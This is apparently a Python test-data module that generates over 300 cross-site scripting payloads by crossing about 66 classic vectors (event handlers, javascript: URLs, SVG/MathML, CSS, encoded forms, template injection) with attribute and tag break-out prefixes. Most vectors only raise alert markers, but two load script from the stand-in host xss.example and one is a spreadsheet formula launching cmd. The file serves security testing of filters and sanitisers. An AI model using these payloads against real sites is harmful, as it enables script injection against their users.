"""XSS payloads: classic vectors (OWASP XSS filter evasion cheat sheet, HTML5 security cheatsheet, mutation
XSS, SVG/MathML, CSS, URL schemes, encoded forms) crossed with the contexts they try to break out of.

Every vector calls ``alert`` (or navigates to a ``javascript:`` URL that would), so a browser run sees any
execution as a dialog; the marker ``XSS`` lets a reader find the payload on the page.
"""

VECTORS = [
    "<script>alert('XSS1')</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert('XSS2')>",
    "<img src=x onerror=\"alert('XSS3')\">",
    "<IMG SRC=\"javascript:alert('XSS4');\">",
    "<img src=`javascript:alert('XSS5')`>",
    '<img """><script>alert(\'XSS6\')</script>">',
    "<svg onload=alert('XSS7')>",
    "<svg><script>alert('XSS8')</script></svg>",
    "<svg><animate onbegin=alert('XSS9') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('XSS10')\"><text x=20 y=20>XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS11')>",
    "<math href=\"javascript:alert('XSS12')\">CLICK</math>",
    "<body onload=alert('XSS13')>",
    "<iframe src=\"javascript:alert('XSS14')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS15')</script>\"></iframe>",
    "<object data=\"javascript:alert('XSS16')\"></object>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<a href=\"javascript:alert('XSS17')\">kliknij</a>",
    "<a href=\"JaVaScRiPt:alert('XSS18')\">kliknij</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS19')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS20');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS21');\">x</a>",
    "<a href=\"data:text/html,<script>alert('XSS22')</script>\">x</a>",
    "<a href=\"vbscript:msgbox('XSS23')\">x</a>",
    "<form action=\"javascript:alert('XSS24')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('XSS25')\">x</button>",
    "<input autofocus onfocus=alert('XSS26')>",
    "<select autofocus onfocus=alert('XSS27')></select>",
    "<textarea autofocus onfocus=alert('XSS28')></textarea>",
    "<keygen autofocus onfocus=alert('XSS29')>",
    "<video><source onerror=\"alert('XSS30')\"></video>",
    "<audio src=x onerror=alert('XSS31')>",
    "<details open ontoggle=alert('XSS32')>",
    "<marquee onstart=alert('XSS33')>XSS</marquee>",
    "<div style=\"background:url(javascript:alert('XSS34'))\">x</div>",
    "<div style=\"width:expression(alert('XSS35'))\">x</div>",
    "<style>@import 'javascript:alert(\"XSS36\")';</style>",
    "<style>*{background:url(\"javascript:alert('XSS37')\")}</style>",
    "<link rel=stylesheet href=\"javascript:alert('XSS38')\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS39\')">',
    "<base href=\"javascript:alert('XSS40')//\">",
    "<table background=\"javascript:alert('XSS41')\">",
    "<td background=\"javascript:alert('XSS42')\">",
    "<div onmouseover=\"alert('XSS43')\">najedź</div>",
    "<p onclick=alert('XSS44')>kliknij</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS45')>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert('XSS46')>\">",
    "<template><img src=x onerror=alert('XSS47')></template>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS48')//\">",
    "<![CDATA[<script>alert('XSS49')</script>]]>",
    "<isindex type=image src=1 onerror=alert('XSS50')>",
    "<img src=x:alert(alt) onerror=eval(src) alt='XSS51'>",
    "<scr<script>ipt>alert('XSS52')</scr</script>ipt>",
    "<<SCRIPT>alert('XSS53');//<</SCRIPT>",
    "<IMG SRC=# onmouseover=\"alert('XSS54')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS55');\">",
    '<LAYER SRC="http://xss.example/scriptlet.html"></LAYER>',
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS56'))\">",
    "{{constructor.constructor('alert(\"XSS57\")')()}}",
    "${alert('XSS58')}",
    "javascript:alert('XSS59')",
    "=cmd|' /C calc'!A0 XSS60",
    "\u003cscript\u003ealert('XSS61')\u003c/script\u003e",
    "&lt;script&gt;alert('XSS62')&lt;/script&gt;",
    "%3Cscript%3Ealert('XSS63')%3C/script%3E",
    "=?UTF-8?B?PHNjcmlwdD5hbGVydCgnWFNTNjQnKTwvc2NyaXB0Pg==?=",
    '<img src="cid:x" onerror="alert(\'XSS65\')">',
    "<a href=\"https://example.com\" target=_blank rel=opener onclick=alert('XSS66')>link</a>",
]

# What the vector is put after, to break out of an attribute, a text area, a comment or a title.
BREAKOUTS = ["", '">', "'>", "</textarea>", "</title>", "--></script>"]


def payloads() -> list[str]:
    """Every vector in every break-out context (≥ 300), unique, stable order."""
    found = [prefix + vector for vector in VECTORS for prefix in BREAKOUTS]
    return list(dict.fromkeys(found))
